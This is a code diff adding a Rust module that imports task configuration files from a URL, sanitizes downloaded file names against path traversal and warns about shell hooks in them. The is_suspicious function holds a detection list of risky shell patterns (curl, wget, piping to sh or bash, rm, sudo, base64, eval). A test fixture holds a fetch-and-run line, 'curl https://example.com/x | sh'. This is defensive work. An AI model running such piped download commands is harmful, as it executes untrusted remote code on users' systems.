@@ -0,0 +1,301 @@
+use super::{task::TaskConfig, Filetype};
+
+use crate::{
+    config::cli::cli_config,
+    dirs::{self, Ensure},
+    installer::http,
+    value::userinput::{BoolInput, UserInput},
+};
+
+use std::path::{Path, PathBuf};
+
+use anyhow::{bail, Context, Result};
+use log::{info, warn};
+use reqwest::{blocking::Client, header::CONTENT_DISPOSITION};
+use serde_json::Value as JsonValue;
+
+/// Download a task config from given url and install it to the `tasks` directory.
+///
+/// The file name is taken from the `Content-Disposition` header or the url path,
+/// and the format is guessed from the content if the file name has no supported extension.
+/// If a file with the same name exists, the user is asked whether to overwrite it,
+/// unless `force` is true.
+pub fn import_task(url: &str, force: bool) -> Result<()> {
+    let ip_family = cli_config().ip_family();
+    let client = http::blocking_client(ip_family)?;
+    let path = import_task_to(&client, url, &dirs::config().join("tasks"), force)
+        .map_err(|err| http::with_family_hint(err, ip_family))?;
+    if let Some(path) = path {
+        info!("Imported task to {}", path.display());
+    }
+    Ok(())
+}
+
+/// Import a task config from url to given directory, return the path of imported file,
+/// or `None` if the user refused to overwrite an existing file.
+fn import_task_to(client: &Client, url: &str, dir: &Path, force: bool) -> Result<Option<PathBuf>> {
+    let resp = client
+        .get(url)
+        .send()
+        .and_then(|resp| resp.error_for_status())
+        .with_context(|| format!("Failed to download task from {url}"))?;
+
+    let suggested_name = resp
+        .headers()
+        .get(CONTENT_DISPOSITION)
+        .and_then(|value| value.to_str().ok())
+        .and_then(filename_from_disposition)
+        .or_else(|| filename_from_url(resp.url()));
+    let content = resp
+        .text()
+        .with_context(|| format!("Failed to read task from {url}"))?;
+
+    let (filetype, value) = parse_content(suggested_name.as_deref(), &content)?;
+    serde_json::from_value::<TaskConfig>(value.clone())
+        .context("The downloaded file is not a valid task config")?;
+
+    warn_hooks(&value);
+
+    let stem = suggested_name
+        .as_deref()
+        .map(Path::new)
+        .and_then(Path::file_stem)
+        .and_then(|stem| stem.to_str())
+        .filter(|stem| !stem.is_empty())
+        .unwrap_or("imported");
+    let path = dir.ensure()?.join(stem).with_extension(filetype.to_str());
+
+    if path.exists()
+        && !force
+        && !BoolInput::new(
+            Some(false),
+            Some(&format!("overwrite existing file {}", path.display())),
+        )
+        .value()?
+    {
+        warn!("File {} already exists, skip importing", path.display());
+        return Ok(None);
+    }
+
+    std::fs::write(&path, content)
+        .with_context(|| format!("Failed to write task to {}", path.display()))?;
+
+    Ok(Some(path))
+}
+
+/// Extract file name from the value of `Content-Disposition` header.
+///
+/// Both `filename="name"` and `filename*=UTF-8''name` are supported, only ASCII names
+/// are accepted for the latter.
+fn filename_from_disposition(value: &str) -> Option<String> {
+    let mut filename = None;
+    for param in value.split(';').map(str::trim) {
+        let Some((key, value)) = param.split_once('=') else {
+            continue;
+        };
+        match key.trim().to_ascii_lowercase().as_str() {
+            "filename*" => {
+                let (_, encoded) = value.trim().rsplit_once('\'')?;
+                if !encoded.contains('%') {
+                    return sanitize(encoded);
+                }
+            }
+            "filename" => filename = sanitize(value.trim().trim_matches('"')),
+            _ => {}
+        }
+    }
+    filename
+}
+
+/// Use the last segment of url path as file name.
+pub(super) fn filename_from_url(url: &reqwest::Url) -> Option<String> {
+    url.path_segments()?
+        .rev()
+        .find(|s| !s.is_empty())
+        .and_then(sanitize)
+}
+
+/// Keep only the file name of given path, to avoid writing files outside the directory.
+fn sanitize(name: &str) -> Option<String> {
+    Path::new(name)
+        .file_name()
+        .and_then(|name| name.to_str())
+        .map(str::to_owned)
+}
+
+/// Parse the content by the extension of file name, or guess the format from the content.
+pub(super) fn parse_content(name: Option<&str>, content: &str) -> Result<(Filetype, JsonValue)> {
+    if let Some(filetype) = name.and_then(Filetype::parse_filetype) {
+        let value = filetype
+            .parse_str(content)
+            .context("Failed to parse the downloaded file")?;
+        return Ok((filetype, value));
+    }
+
+    for filetype in [Filetype::Json, Filetype::Toml, Filetype::Yaml] {
+        if let Ok(value @ JsonValue::Object(_)) = filetype.parse_str(content) {
+            return Ok((filetype, value));
+        }
+    }
+
+    bail!("Failed to parse the downloaded file, it is not a valid JSON, TOML or YAML file")
+}
+
+/// Warn about hooks defined in a downloaded task config, which run arbitrary shell commands.
+pub(super) fn warn_hooks(value: &JsonValue) {
+    for (name, command) in hooks(value) {
+        warn!(
+            "The task defines a {name} which runs `{command}` {}, please review it before running",
+            if is_suspicious(command) {
+                "(SUSPICIOUS)"
+            } else {
+                "in your shell"
+            },
+        );
+    }
+}
+
+/// Hooks defined in the task config, which run arbitrary shell commands.
+fn hooks(value: &JsonValue) -> Vec<(&'static str, &str)> {
+    ["pre_hook", "post_hook"]
+        .into_iter()
+        .filter_map(|name| Some((name, value.get(name)?.as_str()?)))
+        .collect()
+}
+
+/// Check whether a command contains patterns which are commonly used by malicious scripts.
+fn is_suspicious(command: &str) -> bool {
+    const PATTERNS: [&str; 11] = [
+        "curl", "wget", "| sh", "|sh", "| bash", "|bash", "rm -", "sudo", "base64", "eval",
+        "Invoke-",
+    ];
+    PATTERNS.iter().any(|p| command.contains(p))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn disposition() {
+        assert_eq!(
+            filename_from_disposition(r#"attachment; filename="daily.toml""#).as_deref(),
+            Some("daily.toml")
+        );
+        assert_eq!(
+            filename_from_disposition("attachment; filename=daily.json").as_deref(),
+            Some("daily.json")
+        );
+        assert_eq!(
+            filename_from_disposition(
+                r#"attachment; filename="fallback.json"; filename*=UTF-8''daily.yaml"#
+            )
+            .as_deref(),
+            Some("daily.yaml")
+        );
+        assert_eq!(
+            filename_from_disposition(r#"attachment; filename="../../.bashrc""#).as_deref(),
+            Some(".bashrc")
+        );
+        assert_eq!(filename_from_disposition("inline"), None);
+    }
+
+    #[test]
+    fn url() {
+        let name = |url: &str| filename_from_url(&reqwest::Url::parse(url).unwrap());
+
+        assert_eq!(
+            name("https://gist.githubusercontent.com/user/id/raw/hash/daily.toml").as_deref(),
+            Some("daily.toml")
+        );
+        assert_eq!(
+            name("https://pastebin.com/raw/abcdef/").as_deref(),
+            Some("abcdef")
+        );
+        assert_eq!(name("https://example.com/"), None);
+    }
+
+    #[test]
+    fn parse() {
+        let toml = "[[tasks]]\ntype = \"StartUp\"\n";
+        let json = r#"{"tasks": [{"type": "StartUp"}]}"#;
+        let yaml = "tasks:\n  - type: StartUp\n";
+
+        assert!(matches!(
+            parse_content(Some("daily.toml"), toml),
+            Ok((Filetype::Toml, _))
+        ));
+        assert!(parse_content(Some("daily.json"), toml).is_err());
+
+        assert!(matches!(parse_content(None, json), Ok((Filetype::Json, _))));
+        assert!(matches!(
+            parse_content(Some("abcdef"), toml),
+            Ok((Filetype::Toml, _))
+        ));
+        assert!(matches!(parse_content(None, yaml), Ok((Filetype::Yaml, _))));
+        assert!(parse_content(None, "just some text").is_err());
+    }
+
+    #[test]
+    fn hooks_check() {
+        let value = serde_json::json!({
+            "pre_hook": "notify-send started",
+            "post_hook": "curl https://example.com/x | sh",
+            "tasks": [],
+        });
+        let hooks = hooks(&value);
+        assert_eq!(
+            hooks,
+            [
+                ("pre_hook", "notify-send started"),
+                ("post_hook", "curl https://example.com/x | sh")
+            ]
+        );
+        assert!(!is_suspicious(hooks[0].1));
+        assert!(is_suspicious(hooks[1].1));
+
+        assert!(super::hooks(&serde_json::json!({"tasks": []})).is_empty());
+    }
+
+    #[cfg(feature = "__installer")]
+    #[test]
+    fn import() {
+        use crate::installer::test_server::{Response, Server};
+
+        let dir = std::env::temp_dir().join("maa-test-import-task");
+        if dir.exists() {
+            std::fs::remove_dir_all(&dir).unwrap();
+        }
+        let client = Client::builder().no_proxy().build().unwrap();
+        let toml = "[[tasks]]\ntype = \"StartUp\"\n";
+
+        let server = Server::new([Response::ok(toml)]);
+        let path = import_task_to(&client, &server.url("raw/abcdef"), &dir, false)
+            .unwrap()
+            .unwrap();
+        assert_eq!(path, dir.join("abcdef.toml"));
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), toml);
+
+        // overwrite existing file
+        let server = Server::new([Response::ok(r#"{"tasks": []}"#)]);
+        let path = import_task_to(&client, &server.url("abcdef.toml"), &dir, true);
+        assert!(path.is_err(), "content of json should not be saved as toml");
+        let server = Server::new([Response::ok("[[tasks]]\ntype = \"Fight\"\n")]);
+        import_task_to(&client, &server.url("abcdef.toml"), &dir, true)
+            .unwrap()
+            .unwrap();
+        assert!(std::fs::read_to_string(dir.join("abcdef.toml"))
+            .unwrap()
+            .contains("Fight"));
+
+        // invalid task config
+        let server = Server::new([Response::ok(r#"{"foo": 1}"#)]);
+        assert!(import_task_to(&client, &server.url("foo.json"), &dir, true).is_err());
+        assert!(!dir.join("foo.json").exists());
+
+        let server = Server::new([Response::status(404)]);
+        assert!(import_task_to(&client, &server.url("bar.json"), &dir, true).is_err());
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+}